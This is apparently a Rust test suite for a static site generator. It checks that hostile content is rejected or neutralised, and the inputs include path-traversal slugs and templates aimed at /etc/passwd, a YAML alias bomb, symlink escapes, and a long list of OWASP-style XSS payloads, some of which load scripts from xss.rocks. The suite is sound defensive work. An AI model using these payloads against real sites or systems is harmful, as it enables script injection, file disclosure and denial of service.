//! Input we must not trust: a corpus of bad sites that must give a clear error or a safe
//! result, fast, without a panic or a file outside the output; a corpus of XSS vectors that
//! must leave no script in the pages; failures midway through writing that must lose nothing.

use crate::fixture::*;
use scraper::{Html, Selector};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Every file below `dir`, for checking that nothing appeared outside the output.
fn listing(dir: &Path, skip: &Path) -> Vec<PathBuf> {
    walk(dir)
        .into_iter()
        .filter(|p| !p.starts_with(skip))
        .collect()
}

struct Case {
    name: &'static str,
    files: Vec<(String, Vec<u8>)>,
    /// `Some(true)`: must build; `Some(false)`: must fail with this text in the errors.
    expect: Result<(), &'static str>,
}

fn case(name: &'static str, files: &[(&str, &str)], expect: Result<(), &'static str>) -> Case {
    Case {
        name,
        files: files
            .iter()
            .map(|(p, t)| (p.to_string(), t.as_bytes().to_vec()))
            .collect(),
        expect,
    }
}

fn bad_sites() -> Vec<Case> {
    let deep_yaml = format!(
        "---\ntitle: x\nextra: {}{}\n---\n",
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let deep_map = format!(
        "---\ntitle: x\nextra:\n{}\n---\n",
        (0..2000)
            .map(|i| format!("{}k{i}:", " ".repeat(i)))
            .collect::<Vec<_>>()
            .join("\n")
    );
    let deep_quotes = format!("---\ntitle: Deep\n---\n{}text\n", "> ".repeat(20_000));
    let deep_lists = format!(
        "---\ntitle: Lists\n---\n{}",
        (0..1000)
            .map(|i| format!("{}- item\n", "  ".repeat(i)))
            .collect::<String>()
    );
    let brackets = format!(
        "---\ntitle: Brackets\n---\n{}{}\n",
        "[".repeat(50_000),
        "](".repeat(20_000)
    );
    let same_headings = format!(
        "---\ntitle: Headings\n---\n{}",
        "## Same\n\n".repeat(20_000)
    );
    let emphasis = format!("---\ntitle: Emphasis\n---\n{}\n", "*a _b ".repeat(30_000));
    let mut bomb =
        String::from("---\ntitle: Bomb\nextra:\n  a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for i in 1..12 {
        let p = i - 1;
        bomb.push_str(&format!(
            "  a{i}: &a{i} [*a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}, *a{p}]\n"
        ));
    }
    bomb.push_str("---\n");
    let long_title = format!("---\ntitle: {}\n---\n", "x".repeat(1_000_000));
    vec![
        case(
            "malformed YAML",
            &[("content/a.md", "---\ntitle: [a\n---\n")],
            Err("starts with `[`, which opens a YAML list"),
        ),
        case(
            "wrong types",
            &[(
                "content/a.md",
                "---\ntitle: A\nweight: [1]\ndraft: 3\n---\n",
            )],
            Err("expected a whole number"),
        ),
        case(
            "unknown keys",
            &[("content/a.md", "---\ntitle: A\nlayuot: x\n---\n")],
            Err("unknown field `layuot`"),
        ),
        case(
            "front matter never closed",
            &[("content/a.md", "---\ntitle: A\n")],
            Err("never closed"),
        ),
        case(
            "only dashes",
            &[("content/a.md", "---")],
            Err("never closed"),
        ),
        case(
            "empty file",
            &[("content/a.md", "")],
            // A plain page named after its file.
            Ok(()),
        ),
        case(
            "NUL in front matter",
            &[("content/a.md", "---\ntitle: A\u{0}B\n---\n")],
            Err("not valid YAML"),
        ),
        case(
            "NUL in the body",
            &[("content/a.md", "---\ntitle: A\n---\nx\u{0}y\n")],
            Ok(()),
        ),
        case(
            "deeply nested YAML lists",
            &[("content/a.md", &deep_yaml)],
            Err("front matter is not valid YAML"),
        ),
        case(
            "deeply nested YAML maps",
            &[("content/a.md", &deep_map)],
            Err("front matter is not valid YAML"),
        ),
        case(
            "YAML alias bomb",
            &[("content/a.md", &bomb)],
            Err("front matter is not valid YAML"),
        ),
        case(
            "deeply nested quotes",
            &[("content/a.md", &deep_quotes)],
            Ok(()),
        ),
        case(
            "deeply nested lists",
            &[("content/a.md", &deep_lists)],
            Ok(()),
        ),
        case("unclosed brackets", &[("content/a.md", &brackets)], Ok(())),
        case(
            "twenty thousand equal headings",
            &[("content/a.md", &same_headings)],
            Ok(()),
        ),
        case(
            "pathological emphasis",
            &[("content/a.md", &emphasis)],
            Ok(()),
        ),
        case("a megabyte title", &[("content/a.md", &long_title)], Ok(())),
        case(
            "collision by case",
            &[
                ("content/Join.md", "---\ntitle: A\n---\n"),
                ("content/join.md", "---\ntitle: B\n---\n"),
            ],
            Err("same URL"),
        ),
        case(
            "collision by Unicode form",
            &[
                ("content/caf\u{e9}.md", "---\ntitle: A\n---\n"),
                ("content/cafe\u{301}.md", "---\ntitle: B\n---\n"),
            ],
            Err("same URL"),
        ),
        case(
            "collision by slug",
            &[
                ("content/a.md", "---\ntitle: A\nslug: b\n---\n"),
                ("content/b.md", "---\ntitle: B\n---\n"),
            ],
            Err("same URL"),
        ),
        case(
            "slug with ..",
            &[("content/a.md", "---\ntitle: A\nslug: ../../etc\n---\n")],
            Err("cannot be a slug"),
        ),
        case(
            "slug that is ..",
            &[("content/a.md", "---\ntitle: A\nslug: ..\n---\n")],
            Err("cannot be a slug"),
        ),
        case(
            "absolute slug",
            &[("content/a.md", "---\ntitle: A\nslug: /etc/passwd\n---\n")],
            Err("cannot be a slug"),
        ),
        case(
            "template with ..",
            &[(
                "content/a.md",
                "---\ntitle: A\ntemplate: ../../../etc/passwd\n---\n",
            )],
            Err("has no template"),
        ),
        case(
            "absolute template",
            &[(
                "content/a.md",
                "---\ntitle: A\ntemplate: /etc/passwd\n---\n",
            )],
            Err("has no template"),
        ),
        case(
            "spaces and non-ASCII names",
            &[
                (
                    "content/Über uns/Wer wir sind.md",
                    "---\ntitle: Wer wir sind\n---\n",
                ),
                ("content/日本語.md", "---\ntitle: 日本語\n---\n"),
            ],
            Ok(()),
        ),
        case(
            "impossible dates",
            &[(
                "content/events/e.md",
                "---\ntitle: E\nstart: 2026-13-45T25:61\n---\n",
            )],
            Err("is not a date and time handbook can read"),
        ),
        case(
            "javascript in a front-matter link",
            &[(
                "content/events/e.md",
                "---\ntitle: E\nstart: 2026-12-01T10:00\nonline: javascript:alert(1)\n---\n",
            )],
            Err("not a web address"),
        ),
        case(
            "huge file over the cap",
            &[
                ("handbook.yaml", "title: T\nmax_file_size: 1000\n"),
                (
                    "content/a.md",
                    &format!("---\ntitle: A\n---\n{}", "x".repeat(5000)),
                ),
            ],
            Err("limited to 1000"),
        ),
        case(
            "CRLF and BOM",
            &[("content/a.md", "\u{feff}---\r\ntitle: A\r\n---\r\nBody\r\n")],
            Ok(()),
        ),
    ]
}

#[test]
fn bad_sites_give_clear_errors_or_safe_results_quickly() {
    let mut slow = Vec::new();
    for case in bad_sites() {
        let f = Fixture::new();
        for (path, bytes) in &case.files {
            let full = f.site().join(path);
            std::fs::create_dir_all(full.parent().unwrap()).unwrap();
            std::fs::write(full, bytes).unwrap();
        }
        let before = listing(f.dir.path(), &f.out());
        let started = Instant::now();
        let build = f.build();
        let took = started.elapsed();
        let stderr = build.stderr();
        assert!(
            !stderr.contains("panicked") && build.output.status.code().is_some(),
            "{}: crashed\n{stderr}",
            case.name
        );
        match case.expect {
            Ok(()) => assert!(build.ok(), "{}: should build\n{stderr}", case.name),
            Err(text) => {
                assert_eq!(
                    build.output.status.code(),
                    Some(1),
                    "{}: should fail\n{}",
                    case.name,
                    build.stdout()
                );
                // One error line names a file of the case and says what is wrong.
                let clear = stderr.lines().any(|line| {
                    line.contains(": error")
                        && line.contains(text)
                        && case
                            .files
                            .iter()
                            .any(|(path, _)| line.contains(path.as_str()))
                });
                assert!(clear, "{}: unclear error\n{stderr}", case.name);
            }
        }
        assert_eq!(
            listing(f.dir.path(), &f.out()),
            before,
            "{}: a file was written outside the output",
            case.name
        );
        // A hang, not a speed test: a debug build on a loaded 2-core machine is slow.
        if took > Duration::from_secs(30) {
            slow.push((case.name, took));
        }
    }
    assert!(slow.is_empty(), "over 30 s: {slow:?}");
}

#[test]
fn symlinks_out_of_the_site_and_loops_are_not_followed() {
    let f = Fixture::new();
    f.write("outside-secret.txt", "secret");
    let outside = f.dir.path().join("elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("leak.md"), "---\ntitle: Leak\n---\nsecret\n").unwrap();
    std::os::unix::fs::symlink(&outside, f.site().join("content/linked")).unwrap();
    std::os::unix::fs::symlink(f.site().join("content"), f.site().join("content/loop")).unwrap();
    std::os::unix::fs::symlink(
        f.site().join("outside-secret.txt"),
        f.site().join("content/secret.txt"),
    )
    .unwrap();
    let started = Instant::now();
    let build = f.build();
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "a link loop hangs"
    );
    build.assert_ok();
    assert!(
        build.stderr().contains("symbolic links are not followed"),
        "{}",
        build.stderr()
    );
    for file in walk(&f.out()) {
        assert!(
            !std::fs::read_to_string(&file)
                .unwrap_or_default()
                .contains("secret"),
            "{}",
            file.display()
        );
    }
}

/// Known XSS vectors: the OWASP filter-evasion list and past advisories of peer tools.
const XSS_BODY: &str = r#"
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<a onmouseover="alert(document.cookie)">xxs link</a>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC=" &#14;  javascript:alert('XSS');">
<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<iframe src=http://xss.rocks/scriptlet.html <
<svg/onload=alert('XSS')>
<svg><script>alert(1)</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<a href="javascript:alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="  JAVASCRIPT:alert(1)">x</a>
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<details open ontoggle=alert(1)><summary>x</summary></details>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<base href="javascript:alert(1)//">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'http://xss.rocks/xss.css';</style>
<div style="background-image: url(javascript:alert('XSS'))">x</div>
<input onfocus=alert(1) autofocus>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<table><td background="javascript:alert(1)">x</td></table>
<!--<img src="--><img src=x onerror=alert(1)//">

[md link](javascript:alert(1))
[md upper](JaVaScRiPt:alert(1))
[md entity](&#106;avascript:alert(1))
[md data](data:text/html,<script>alert(1)</script>)
![md image](javascript:alert(1))
<javascript:alert(1)>
[ref link][r]

[r]: javascript:alert(1)
"#;

const SCHEME_SCRIPT: &str = include_str!("../../themes/default/templates/partials/scheme.html");

const XSS_TEXT: &str = "</script><script>alert(1)</script>\"><img src=x onerror=alert(1)>";

fn assert_no_script_from_content(file: &Path, html: &Html) {
    let all = Selector::parse("*").unwrap();
    for element in html.select(&all) {
        let el = element.value();
        let name = el.name();
        match name {
            "script" => {
                // JSON-LD, the theme's own scripts, and the theme's one inline line that
                // applies the reader's colour scheme before the page is drawn (exactly it).
                let theme_scripts = ["/events.js", "/search.js", "/theme.js"];
                let ok = el.attr("type") == Some("application/ld+json")
                    || el
                        .attr("src")
                        .is_some_and(|s| theme_scripts.iter().any(|t| s.ends_with(t)))
                    || (el.attr("src").is_none()
                        && SCHEME_SCRIPT.contains(element.inner_html().as_str())
                        && element.inner_html().len() > 100);
                assert!(
                    ok,
                    "{}: a script element {:?}",
                    file.display(),
                    element.html()
                );
                if el.attr("type") == Some("application/ld+json") {
                    serde_json::from_str::<serde_json::Value>(&element.inner_html())
                        .expect("JSON-LD stays JSON");
                }
            }
            "iframe" | "object" | "embed" | "base" | "noscript" => {
                panic!("{}: a {name} element", file.display())
            }
            // The theme's own search forms, and nothing else.
            "form" => assert_eq!(
                el.attr("action"),
                Some("/search/"),
                "{}: a form",
                file.display()
            ),
            "meta" => assert!(
                el.attr("http-equiv").is_none(),
                "{}: meta refresh",
                file.display()
            ),
            _ => {}
        }
        for (attr, value) in el.attrs() {
            assert!(
                !attr.to_ascii_lowercase().starts_with("on"),
                "{}: {attr} on <{name}>",
                file.display()
            );
            let cleaned: String = value
                .chars()
                .filter(|c| !c.is_control() && !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase();
            if [
                "href",
                "src",
                "action",
                "formaction",
                "data",
                "background",
                "poster",
                "xlink:href",
            ]
            .contains(&attr)
            {
                for bad in ["javascript:", "vbscript:", "data:"] {
                    assert!(
                        !cleaned.starts_with(bad),
                        "{}: {attr}={value:?}",
                        file.display()
                    );
                }
            }
            if attr == "style" {
                assert!(
                    value.starts_with("text-align:"),
                    "{}: style={value:?}",
                    file.display()
                );
            }
        }
    }
}

#[test]
fn no_script_comes_from_content_or_front_matter() {
    let f = Fixture::new();
    f.write(
        "content/xss.md",
        &format!(
            "---\ntitle: '{0}'\ndescription: '{0}'\ntags: ['{0}']\n---\n{XSS_BODY}",
            XSS_TEXT.replace('\'', "''")
        ),
    )
    .write(
        "content/events/xss.md",
        &format!(
            "---\ntitle: '{0}'\nstart: 2026-12-01T10:00\nlocation: '{0}'\n---\n{XSS_BODY}",
            XSS_TEXT.replace('\'', "''")
        ),
    )
    .write(
        "content/roles/xss.md",
        &format!(
            "---\ntitle: Role\nholders:\n  - name: '{0}'\n    contact: '{0}'\n---\n",
            XSS_TEXT.replace('\'', "''")
        ),
    )
    .write(
        "content/people/p.md",
        &format!(
            "---\nname: '{0}'\ncontact: '{0}'\n---\n{XSS_BODY}",
            XSS_TEXT.replace('\'', "''")
        ),
    );
    let build = f.build();
    build.assert_ok();
    assert!(
        build.stderr().contains("uses a scheme that is not allowed"),
        "unsafe links are reported"
    );
    let mut pages = 0;
    for file in walk(&f.out())
        .into_iter()
        .filter(|p| p.extension().is_some_and(|e| e == "html"))
    {
        assert_no_script_from_content(
            &file,
            &Html::parse_document(&std::fs::read_to_string(&file).unwrap()),
        );
        pages += 1;
    }
    assert!(pages > 5);
    // The calendar keeps the text as text: one event, no injected lines.
    let ics = f.read("events.ics");
    assert_eq!(ics.matches("BEGIN:VEVENT").count(), 1);
    // The escaped text is still there for people to read.
    let page = f.html("xss/index.html");
    assert_eq!(select(&page, "h1"), [XSS_TEXT]);
}

#[test]
fn raw_html_can_be_escaped_or_allowed() {
    let body = "---\ntitle: A\n---\n<b class=\"x\">bold</b> and <script>alert(1)</script>\n";
    let escaped = Fixture::with_config("title: T\nmarkdown:\n  raw_html: escape\n");
    escaped.write("content/a.md", body);
    escaped.build().assert_ok();
    let html = escaped.read("a/index.html");
    assert!(
        html.contains("&lt;b class=") && html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    let sanitized = Fixture::new();
    sanitized.write("content/a.md", body);
    sanitized.build().assert_ok();
    let html = sanitized.read("a/index.html");
    assert!(
        html.contains("<b>bold</b>") && !html.contains("alert(1)"),
        "{html}"
    );
    let allowed = Fixture::with_config("title: T\nmarkdown:\n  raw_html: allow\n");
    allowed.write("content/a.md", body);
    allowed.build().assert_ok();
    assert!(
        allowed
            .read("a/index.html")
            .contains("<script>alert(1)</script>")
    );
}

#[test]
fn a_failure_midway_through_writing_loses_nothing() {
    let f = Fixture::new();
    for n in 0..30 {
        f.write(
            &format!("content/p{n}.md"),
            &format!("---\ntitle: P{n}\n---\nOne.\n"),
        );
    }
    f.build().assert_ok();
    let before = tree(&f.out());
    for n in 0..30 {
        f.write(
            &format!("content/p{n}.md"),
            &format!("---\ntitle: P{n}\n---\nTwo.\n"),
        );
    }
    let out = handbook()
        .arg("build")
        .arg(f.site())
        .env("HANDBOOK_TEST_FAIL_AFTER_FILES", "10")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("injected failure"));
    assert_eq!(tree(&f.out()), before, "the previous output is untouched");
    let leftovers: Vec<String> = std::fs::read_dir(f.site())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !leftovers.iter().any(|n| n.contains("staging")),
        "{leftovers:?}"
    );
}

#[test]
fn the_tool_never_cleans_what_it_did_not_write() {
    let f = Fixture::new();
    f.write("canary.txt", "keep me")
        .write("content/canary.txt", "keep me too");
    let home = f.dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("canary.txt"), "mine").unwrap();
    for (target, env_home) in [
        (f.site(), None),
        (f.dir.path().to_path_buf(), None),
        (PathBuf::from("/"), None),
        (f.site().join("content"), None),
        (home.clone(), Some(home.clone())),
    ] {
        let mut cmd = handbook();
        cmd.arg("build").arg(f.site()).arg("--output").arg(&target);
        if let Some(h) = &env_home {
            cmd.env("HOME", h);
        }
        let out = cmd.output().unwrap();
        assert_eq!(
            out.status.code(),
            Some(1),
            "{} was accepted as output",
            target.display()
        );
    }
    assert_eq!(
        std::fs::read_to_string(f.site().join("canary.txt")).unwrap(),
        "keep me"
    );
    assert_eq!(
        std::fs::read_to_string(f.site().join("content/canary.txt")).unwrap(),
        "keep me too"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("canary.txt")).unwrap(),
        "mine"
    );
}

#[test]
fn output_does_not_depend_on_tz_lang_or_threads() {
    let dir = tempfile::tempdir().unwrap();
    let mut trees = Vec::new();
    for (n, (tz, lang, threads)) in [
        ("UTC", "C", "1"),
        ("Asia/Tokyo", "de_DE.UTF-8", "3"),
        ("America/New_York", "ja_JP.UTF-8", "2"),
    ]
    .iter()
    .enumerate()
    {
        let out = dir.path().join(format!("out{n}"));
        let status = handbook()
            .env("TZ", tz)
            .env("LANG", lang)
            .env("LC_ALL", lang)
            .env("RAYON_NUM_THREADS", threads)
            .args(["build", "-q", "--output"])
            .arg(&out)
            .arg(example_site())
            .status()
            .unwrap();
        assert!(status.success());
        trees.push(tree(&out));
    }
    assert!(trees[0] == trees[1] && trees[1] == trees[2]);
}
